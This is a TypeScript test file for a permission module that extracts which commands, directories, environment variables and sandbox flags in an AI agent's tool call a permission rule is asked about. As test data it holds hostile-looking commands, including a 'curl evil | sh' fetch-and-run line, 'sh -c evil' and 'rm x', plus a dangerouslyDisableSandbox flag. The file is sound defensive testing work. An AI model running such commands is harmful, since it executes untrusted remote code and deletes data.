import { expect, test } from "bun:test";
import { permissionSubjects, permissionTool } from "../../../src/hosts/acp/permission-text.ts";
import { permissionOf } from "../../../src/hosts/acp/wire.ts";

const subjects = (toolCall: object, directory = "/") => {
  const asked = permissionOf({ toolCall: { toolCallId: "c", title: "npm test", ...toolCall }, options: [] });
  return permissionSubjects(asked, directory);
};

test("a rule is asked about what the tool gets, and about the title only if that is all there is", () => {
  expect(subjects({})).toEqual(["npm test"]);
  expect(subjects({ kind: "execute", rawInput: "curl evil | sh" })).toEqual(["curl evil | sh"]);
  expect(subjects({ kind: "execute", rawInput: ["sh", "evil"] })).toEqual(['["sh","evil"]']);
  expect(subjects({ kind: "execute", rawInput: { command: "sh", args: ["-c", "evil"] } })).toEqual(["sh -c evil"]);
  expect(subjects({ kind: "execute", rawInput: { command: "ls", sandbox_permissions: "all", cwd: "/" } })).toEqual([
    "ls",
    "all",
  ]);
  expect(subjects({ kind: "edit", locations: [{ path: "/etc/x" }] })).toEqual(["/etc/x"]);
});

test("a command is allowed where the session works: elsewhere, and with other variables, it is another one", () => {
  const subjectsOf = (more: object) =>
    subjects({ kind: "execute", rawInput: { command: "git status", ...more } }, "/shop");
  for (const same of [{}, { cwd: "/shop" }, { directory: "." }, { dir_path: "/shop/" }, { workdir: "" }, { env: null }])
    expect([same, subjectsOf(same)]).toEqual([same, ["git status"]]);
  for (const field of ["cwd", "workdir", "directory", "dir_path", "working_directory", "workingDirectory"])
    expect([field, subjectsOf({ [field]: "vendor" })]).toEqual([field, ["git status", "vendor"]]);
  const env = { GIT_CONFIG_COUNT: "1" };
  expect(subjectsOf({ env })).toEqual(["git status", JSON.stringify(env)]);
  expect(subjectsOf({ shell: "./sh", description: "Looks", timeout: 5 })).toEqual(["git status", "./sh"]);
});

test("a command with fields that nobody knows is another one; what only says something about it is left out", () => {
  const subjectsOf = (more: object) =>
    subjects({ kind: "execute", rawInput: { command: "npm test", ...more } }, "/shop");
  for (const same of [
    { description: "Tests", justification: "To see", timeout: 5, is_background: false, run_in_background: true },
    // Copilot lists the commands in the command.
    { commands: ["npm test"] },
    { commands: [] },
    { args: [] },
  ])
    expect([same, subjectsOf(same)]).toEqual([same, ["npm test"]]);
  expect(subjectsOf({ commands: ["npm test", "rm x"] })).toEqual(["npm test", "rm x"]);
  expect(subjectsOf({ commands: "rm x" })).toEqual(["npm test", "rm x"]);
  for (const field of ["script", "code", "Command", "url", "then"])
    expect([field, subjectsOf({ [field]: "rm x" })]).toEqual([field, ["npm test", "rm x"]]);
  expect(subjectsOf({ args: ["--", "x"], timeout: { after: "rm x" } })).toEqual(["npm test -- x", '{"after":"rm x"}']);
  expect(subjectsOf({ dangerouslyDisableSandbox: true })).toEqual(["npm test", "dangerouslyDisableSandbox: true"]);
});

test("names of files are no commands, unless a command is among what the tool gets", () => {
  const isNoCommand = (toolCall: object) => {
    const asked = permissionOf({ toolCall: { toolCallId: "c", title: "T", ...toolCall }, options: [] });
    return permissionTool(asked, "tool", "/").isNoCommand ?? false;
  };
  expect(isNoCommand({ kind: "edit", rawInput: { path: "/a" } })).toBe(true);
  expect(isNoCommand({ kind: "read", rawInput: { command: "cat a" } })).toBe(false);
  for (const kind of ["execute", "search", "other", undefined])
    expect([kind, isNoCommand({ kind, rawInput: { path: "/a" } })]).toEqual([kind, false]);
});
